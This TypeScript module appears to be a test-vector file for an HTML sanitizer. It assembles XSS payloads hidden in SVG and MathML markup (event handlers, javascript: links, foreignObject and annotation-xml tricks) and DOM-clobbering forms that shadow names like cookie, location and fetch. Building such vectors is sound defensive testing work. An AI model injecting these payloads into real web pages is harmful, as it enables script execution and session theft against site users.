import { inMarkup, SCRIPT } from './vector.ts';
import type { Attempt } from './vector.ts';

const S = SCRIPT;

const SVG: readonly string[] = [
  `<svg><animate onbegin=${S} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${S} attributeName=x to=1></svg>`,
  `<svg><animateTransform onbegin=${S} attributeName=transform dur=1s></svg>`,
  `<svg><a><animate attributeName=href dur=1s to="javascript:${S}" /><rect width=99 height=99 /></a></svg>`,
  `<svg><a xlink:href="javascript:${S}" xlink:show=new><circle r=40 /></a></svg>`,
  `<svg><a href="java&#x0A;script:${S}"><circle r=40 /></a></svg>`,
  `<svg><foreignObject><body onload=${S}><img src=x: onerror=${S}></body></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${S}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${S}'/>#x"/><script>${S}</script></svg>`,
  `<svg><title><a onclick=${S}>word</a></title><text onclick=${S}>word</text></svg>`,
  `<svg onload=${S} onload=x><switch><image href=x: onerror=${S}></switch></svg>`,
  `<svg><handler type="text/javascript" ev:event="load">${S}</handler><script>${S}</script></svg>`,
  `<svg><filter><feImage href=x: onerror=${S}></filter><image href=x: onerror=${S}></svg>`,
  `<svg viewBox="0 0 9 9" onclick=${S}><path d="M0 0h9v9z" onmouseover=${S} /></svg>`,
];

const MATHML: readonly string[] = [
  `<math href="javascript:${S}"><mi>x</mi></math><script>${S}</script>`,
  `<math><maction actiontype=statusline#http://a.test xlink:href="javascript:${S}">word</maction></math><script>${S}</script>`,
  `<math><mi onclick=${S}>x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x: onerror=${S}></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><script>${S}</script></annotation-xml></math>`,
  `<math><semantics><mi>x</mi><annotation encoding="text/html"><svg onload=${S}></annotation></semantics></math>`,
  `<math><mtext><img src=x: onerror=${S}></mtext></math>`,
  `<math><ms><iframe onload=${S}></iframe></ms></math>`,
  `<math><mo style="background:url(javascript:${S})" onmouseover=${S}>+</mo></math>`,
  `<math><mrow xlink:type=simple xlink:href="javascript:${S}" onclick=${S}><mi>y</mi></mrow></math>`,
];

/** Names that a page's own scripts look up on `document` and `window`. */
const CLOBBERED = [
  'body',
  'head',
  'documentElement',
  'querySelector',
  'getElementById',
  'createElement',
  'cookie',
  'defaultView',
  'location',
  'forms',
  'localStorage',
  'matchMedia',
  'theme',
  'search',
  'fetch',
  'constructor',
  '__proto__',
];

/** SVG, MathML, and names that stand in the way of a page's own scripts. */
export function foreign(): readonly Attempt[] {
  return [
    ...SVG.map((payload, index) => inMarkup('svg', `svg ${index + 1}`, payload)),
    ...MATHML.map((payload, index) => inMarkup('mathml', `mathml ${index + 1}`, payload)),
    ...CLOBBERED.map((name) =>
      inMarkup(
        'clobbering',
        name,
        `<form id="${name}" name="${name}"><input name="attributes"><input id="${name}" name="${name}"></form><a id="${name}" name="${name}" href="tel:1">word</a><img name="${name}" src=x:><object name="${name}"></object>`,
      ),
    ),
  ];
}
